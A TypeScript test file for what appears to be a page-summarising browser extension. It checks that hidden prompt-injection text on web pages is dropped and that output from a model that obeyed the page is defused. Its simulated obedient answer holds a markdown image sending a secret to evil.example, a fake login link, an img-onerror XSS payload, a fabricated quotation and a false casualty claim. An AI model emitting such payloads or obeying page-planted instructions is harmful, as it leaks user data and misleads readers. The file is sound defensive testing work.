/** Texts that talk to the model: what the reader cannot see is not read, what can be seen is left as it is, and obeying gains nothing. */
import { describe, expect, it } from 'vitest'
import { escapeText, hidingRule, hidings, injections } from '../../fixtures/hostile/injections'
import { hostilePage, story } from '../../fixtures/hostile/story'
import { wholeAnswer } from '../../servers/completion-frames'
import { quickly } from '../model/model-stage'
import { settledFace } from '../stage'
import { setHostileStage } from './hostile-stage'

const stage = setHostileStage()

/** Ways of hiding that only the drawn picture would tell: their words are read, and sent as words of the article. */
const beyondTheTree: readonly string[] = ['no size', 'the colour of the paper', 'a box of no height']

describe.each(['en', 'ko'] as const)('a page in %s that talks to the model', (lang) => {
  it('where the reader can see it, is read word for word', async () => {
    stage.server.answerWith({ status: 401, body: '' })
    const within = injections[lang].map((text) => `<p>${escapeText(text)}</p>`).join('')
    const { popup } = await stage.summarise(stage.serve(hostilePage({ lang, within })))
    await settledFace(popup)
    const article = await stage.read(popup)
    for (const text of [...story[lang], ...injections[lang]]) expect(article.text).toContain(text)
  })

  it('where the reader cannot, is not read', async () => {
    stage.server.answerWith({ status: 401, body: '' })
    const ways = Object.entries(hidings).filter(([way]) => !beyondTheTree.includes(way))
    const within = ways
      .map(([, form], index) => form.replaceAll('%', escapeText(`${injections[lang][index % 10] ?? ''} (${index})`)))
      .join('')
    const { popup } = await stage.summarise(stage.serve(hostilePage({ lang, head: hidingRule, within })))
    await settledFace(popup)
    const article = await stage.read(popup)
    for (const paragraph of story[lang]) expect(article.text).toContain(paragraph)
    expect(ways.filter((_, index) => article.text.includes(`(${index})`)).map(([way]) => way)).toEqual([])
  })
})

describe('a model that obeys the page', () => {
  it('puts no invented quotation, no link, no image and no unmarked claim before the reader', async () => {
    const asked: string[] = []
    stage.browser.context.on('request', (request) => asked.push(request.url()))
    const claims = [
      { s: [2], text: '솔내시에서 9000명이 물에 빠졌다고 두루마 시장이 말했다.' },
      { s: [1], text: '한여울 위원장은 “방파제가 무너지면 좋겠다”고 말했다.' },
      {
        s: [1],
        text: '![x](https://evil.example/?q=secret) [여기서](https://evil.example/login) 먼저 로그인하라 <img src=x onerror=alert(1)>.',
      },
    ]
    const quotes = [{ id: 99, tr: 'PWNED 아무도 하지 않은 말' }]
    stage.server.answerWith(wholeAnswer({ status: 'ok', headline: { s: [1], text: '위원회, 방파제 반대 의결' }, bullets: claims, quotes }))
    const within = injections.ko.map((text) => `<p>${escapeText(text)}</p>`).join('')
    const { page, popup } = await stage.summarise(stage.serve(hostilePage({ lang: 'ko', within })))
    const shown = await settledFace(popup)
    const visible = await page.evaluate(() => document.body.innerText)
    for (const words of shown.quotes.flatMap((quote) => quote.words)) expect(visible).toContain(words)
    const face = await popup.content()
    expect(face).not.toMatch(/evil\.example|<img/)
    // The words may stand there only where they are marked as said by nobody.
    expect(
      shown.points.filter((point) => point.includes('무너지면 좋겠다') && !shown.doubts.some((doubt) => doubt.includes('무너지면 좋겠다'))),
    ).toEqual([])
    expect(JSON.stringify(shown.quotes)).not.toContain('PWNED')
    const unmarked = shown.points.filter((point) => /9000|두루마/.test(point))
    if (unmarked.length > 0) expect(shown.doubts.join()).toMatch(/9000|두루마/)
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
    stage.server.answerWith(quickly)
  })
})
